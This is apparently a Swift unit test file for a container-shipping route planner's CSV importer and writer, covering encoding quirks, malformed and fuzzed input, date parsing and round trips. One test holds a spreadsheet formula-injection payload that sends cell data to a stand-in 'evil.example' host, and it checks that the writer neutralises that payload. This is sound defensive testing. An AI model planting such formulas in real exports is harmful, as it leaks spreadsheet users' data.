import BundledData
import Foundation
import RoutePlanner
import RoutePlannerFormats
import RoutePlannerTestSupport
import Testing

/// The quirks of real files (LINER-LIB's and UN/LOCODE's: CRLF, padded numbers, Latin-1; docs/CSV.md), hostile bytes, and round trips.
@Suite struct CSVQuirksTests {
    /// 2026-03-01T00:00:00Z.
    static let march1 = Date(timeIntervalSince1970: 1_772_323_200)

    static let reference = try! BundledData.unlocodeDirectory()

    @Test func crlfWithPaddedNumbersAndNoFinalNewline() throws {
        let result = try CSVImporter().importLocations(CSVImportTests.fixture("quirks/crlf-padded-locations.csv"))
        #expect(result.diagnostics.isEmpty)
        #expect(result.value.map(\.code) == ["NLRTM", "SEGOT", "DE9B0"])
        #expect(result.value.map(\.transshipmentTime) == [.seconds(24 * 3600), .seconds(36.5 * 3600), .zero])
        #expect(result.value[1].name == "Göteborg")
    }

    @Test func aLatin1FileWithAnEmbeddedLineBreakAndCodesCheckedAgainstTheList() throws {
        let result = try CSVImporter(reference: Self.reference).importLocations(CSVImportTests.fixture("quirks/latin1-locations.csv"))
        #expect(result.value.map(\.name) == ["Göteborg", "Midelt\r\n(Atlas)", "Tokyo (DDD sample)", "Shanghai"])
        // CNSHA is in the list although release 2023-1 gives it no port function; JNTKO does not exist.
        #expect(
            result.diagnostics.map(\.description) == [
                "quirks/latin1-locations.csv:1:1: warning: the file is not valid UTF-8; it was read as Latin-1 (ISO 8859-1)",
                "quirks/latin1-locations.csv:5:1: warning: JNTKO is not in the UN/LOCODE list 2023-1",
            ])
    }

    @Test func aByteOrderMarkAndCRLF() throws {
        let locations = CSVFile(name: "locations.csv", text: "unlocode,name\nNLRTM,Rotterdam\nSEGOT,Göteborg")
        let result = try CSVImporter().importSchedule(locations: locations, schedule: CSVImportTests.fixture("quirks/bom-schedule.csv"))
        #expect(result.value.network.voyage("V1")?.movements.count == 1)
    }

    @Test func theReferenceListKnowsRealCodes() throws {
        #expect(Self.reference.count == 115_770)
        #expect(Self.reference.entry("DE9B0")?.name == "Bollberg")
        #expect(Self.reference.entry("HKHKG") != nil && Self.reference.entry("JPTYO") != nil)
        #expect(Self.reference.entry("JNTKO") == nil && Self.reference.entry("CNHKG") == nil)
        #expect(Self.reference.entry("NLRTM")?.isPort == true)
        #expect(Self.reference.entry("CNSHA")?.isPort == false)
    }

    @Test(arguments: [
        ("empty", ""),
        ("only a line break", "\r\n"),
        ("an open quote", "unlocode,name\n\"NLRTM,Rotterdam\n"),
        ("text after a quote", "unlocode,name\n\"NLRTM\"x,Rotterdam\n"),
    ])
    func oddFilesGiveErrorsNotCrashes(_ name: String, _ text: String) {
        #expect(throws: ImportError.self) { try CSVImporter().importLocations(CSVFile(name: "f.csv", text: text)) }
    }

    @Test func pinsTheMessagesForOddFiles() {
        let inputs: [String] = ["", "unlocode,name\n\"NLRTM,Rotterdam\n", "unlocode,name\n\"NLRTM\"x,Rotterdam\n"]
        let messages = inputs.map { (text: String) -> String in
            do {
                _ = try CSVImporter().importLocations(CSVFile(name: "f.csv", text: text))
                return ""
            } catch { return String(describing: error) }
        }
        #expect(
            messages == [
                "f.csv:1:1: error: the file is empty; the first line must name the columns unlocode, name",
                """
                f.csv:2:1: error: quoted field is not closed before the end of the file
                f.csv:2:1: error: malformed UN/LOCODE "NLRTM,Rotterdam\\n": expected 2 letters and 3 letters or digits
                f.csv:3:1: error: missing value for "name"
                """,
                "f.csv:2:8: error: unexpected text after a closing quote",
            ])
    }

    @Test func binaryGarbageNeverCrashes() {
        for seed in UInt64(0)..<200 {
            var generator = SplitMix64(seed: seed)
            let bytes = (0..<Int.random(in: 0...4_000, using: &generator)).map { _ in
                // Mostly CSV punctuation, to reach deep into the reader.
                Bool.random(using: &generator) ? UInt8.random(in: 0...255, using: &generator) : Array(",\"\r\n aZ09:-T".utf8).randomElement(using: &generator)!
            }
            let importer = CSVImporter(mode: Bool.random(using: &generator) ? .strict : .lenient)
            let file = CSVFile(name: "garbage.csv", bytes: Array("voyage,from,to,departure,arrival\n".utf8) + bytes)
            let locations = CSVFile(name: "locations.csv", text: "unlocode,name\nNLRTM,Rotterdam\n")
            do {
                let result = try importer.importSchedule(locations: locations, schedule: file)
                #expect(importer.mode == .lenient || result.diagnostics.allSatisfy { $0.severity == .warning }, "seed \(seed)")
            } catch {
                #expect(!error.diagnostics.isEmpty, "seed \(seed)")
            }
        }
    }

    @Test func aHundredMegabyteLineIsReportedNotHeld() throws {
        var bytes = Array("unlocode,name\n".utf8)
        bytes += [UInt8](repeating: UInt8(ascii: "A"), count: 100_000_000)
        let error = try #require(throws: ImportError.self) {
            try CSVImporter().importLocations(CSVFile(name: "big.csv", bytes: bytes))
        }
        #expect(
            error.description == """
                big.csv:2:1: error: malformed UN/LOCODE "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA…": expected 2 letters and 3 letters or digits
                big.csv:2:100000001: error: missing value for "name"
                """)
    }

    @Test func stopsListingAfterTheLimitAndCountsTheRest() throws {
        let rows = (1...250).map { "BAD-\($0),Somewhere" }.joined(separator: "\n")
        let error = try #require(throws: ImportError.self) {
            try CSVImporter(errorLimit: 100).importLocations(CSVFile(name: "many.csv", text: "unlocode,name\n" + rows))
        }
        #expect(error.diagnostics.count == 100)
        #expect(error.omittedErrorCount == 150)
        #expect(error.description.hasSuffix("\nand 150 more errors"))
    }

    @Test(arguments: [
        ("2026-03-01T08:00:00Z", "2026-03-01T08:00:00Z"),
        ("2026-03-01T08:00+01:00", "2026-03-01T07:00:00Z"),
        ("2026-03-01 08:00:00.250-05:30", "2026-03-01T13:30:00Z"),
        ("2026-03-01t08:00:00z", "2026-03-01T08:00:00Z"),
        ("2040-02-29T23:59:59+0100", "2040-02-29T22:59:59Z"),
        ("2100-01-01T00:00:00Z", "2100-01-01T00:00:00Z"),
    ])
    func readsDateTimesWithZones(_ text: String, _ utc: String) throws {
        let bookings = "booking,origin,destination,ready,deadline,teu\nB,NLRTM,SEGOT,\(text),2200-01-01,1\n"
        let booking = try CSVImporter().importBookings(CSVFile(name: "b.csv", text: bookings)).value[0]
        #expect(booking.specification.readyTime == CSVImportTests.utc(utc))
    }

    @Test(arguments: ["2026-02-30", "2026-13-01", "2026-03-01T24:00:00Z", "2026-03-01T08:00:00+25:00", "2026-3-1", "20260301"])
    func refusesImpossibleTimes(_ text: String) {
        let bookings = "booking,origin,destination,ready,deadline,teu\nB,NLRTM,SEGOT,\(text),2200-01-01,1\n"
        #expect(throws: ImportError.self) { try CSVImporter().importBookings(CSVFile(name: "b.csv", text: bookings)) }
    }

    @Test func aBookingReferenceWithAControlCharacterIsRefusedWhereItIs() {
        // A NUL byte, which no PostgreSQL text holds, and a line break inside quotes, which no reference is.
        let bookings =
            "booking,origin,destination,ready,deadline,teu\nB\u{0}1,NLRTM,SEGOT,2026-03-01,2200-01-01,1\n\"B\n2\",NLRTM,SEGOT,2026-03-01,2200-01-01,1\n"
        #expect {
            try CSVImporter().importBookings(CSVFile(name: "b.csv", text: bookings))
        } throws: { error in
            (error as? ImportError)?.diagnostics.map(\.description) == [
                "b.csv:2:1: error: booking \"B\\u{0}1\" holds a control character, such as a line break: a booking reference is one line of text",
                "b.csv:3:1: error: booking \"B\\n2\" holds a control character, such as a line break: a booking reference is one line of text",
            ]
        }
    }

    @Test func aNetworkWrittenBackReadsIdentically() throws {
        for network in [SampleVoyages.network(), try BundledData.worldSmall().network] {
            let locations = CSVFile(name: "locations.csv", text: CSVWriter.locations(of: network))
            let schedule = CSVFile(name: "schedule.csv", text: CSVWriter.schedule(of: network))
            let again = try CSVImporter().importSchedule(locations: locations, schedule: schedule).value.network
            #expect(again.locations == network.locations)
            #expect(again.voyages == network.voyages)
        }
        let quoted = [Location(code: "JPAMA", name: "Ama, Aichi \"Port\"", transshipmentTime: .seconds(5400))]
        let voyage = Voyage(
            number: "V,1", movements: [CarrierMovement(from: "JPAMA", to: "JPAMA", departure: Self.march1, arrival: Self.march1 + 3600, capacity: 7)],
            vessel: "Line\nBreak")
        let network = try ScheduleNetwork(locations: quoted, voyages: [voyage])
        let again = try CSVImporter().importSchedule(
            locations: CSVFile(name: "l.csv", text: CSVWriter.locations(of: network)),
            schedule: CSVFile(name: "s.csv", text: CSVWriter.schedule(of: network))
        ).value.network
        #expect(again.locations == quoted && again.voyages == [voyage])
    }

    /// A text a spreadsheet would take for a formula is written after a `'`, quoted (OWASP's CSV injection guidance), and
    /// read back as it was: in a bookings file, in a schedule's names, and in a location's name.
    @Test func aFormulaIsWrittenAsTextAndReadBackAsItWas() throws {
        let formulas = [#"=HYPERLINK("http://evil.example/?x="&A1,"x")"#, "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
        #expect(CSVWriter.field(formulas[0]) == #""'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")""#)
        #expect(formulas.allSatisfy { CSVWriter.field($0).hasPrefix("\"'") }, "\(formulas.map(CSVWriter.field))")
        // Text that only holds such characters later, or a quote before another one, stays as it was.
        #expect(CSVWriter.field("A=1") == "A=1" && CSVWriter.field("'x") == "'x")
        let network = try BundledData.worldSmall().network
        let template = try BundledData.worldSmallBookings(for: network)[0]
        let bookings = try formulas.dropLast(2).map { id in
            try Booking(id: id, teu: template.teu, specification: template.specification, revenuePerTEU: template.revenuePerTEU)
        }
        let again = try CSVImporter().importBookings(CSVFile(name: "b.csv", text: CSVWriter.bookings(bookings)), network: network).value
        #expect(again.map(\.id) == bookings.map(\.id))
        let locations = [Location(code: "JPAMA", name: "=1+1", transshipmentTime: .seconds(5400))]
        let voyage = Voyage(
            number: "-V1", movements: [CarrierMovement(from: "JPAMA", to: "JPAMA", departure: Self.march1, arrival: Self.march1 + 3600, capacity: 7)],
            vessel: "@vessel", service: "+service")
        let schedule = try ScheduleNetwork(locations: locations, voyages: [voyage])
        let read = try CSVImporter().importSchedule(
            locations: CSVFile(name: "l.csv", text: CSVWriter.locations(of: schedule)),
            schedule: CSVFile(name: "s.csv", text: CSVWriter.schedule(of: schedule))
        ).value.network
        #expect(read.locations == locations && read.voyages == [voyage])
    }

    @Test func bookingsWrittenBackReadIdentically() throws {
        let network = try BundledData.worldSmall().network
        let bookings = try BundledData.worldSmallBookings(for: network)
        #expect(bookings.count == 3_402)
        let again = try CSVImporter().importBookings(CSVFile(name: "b.csv", text: CSVWriter.bookings(bookings)), network: network).value
        #expect(again == bookings)
    }
}
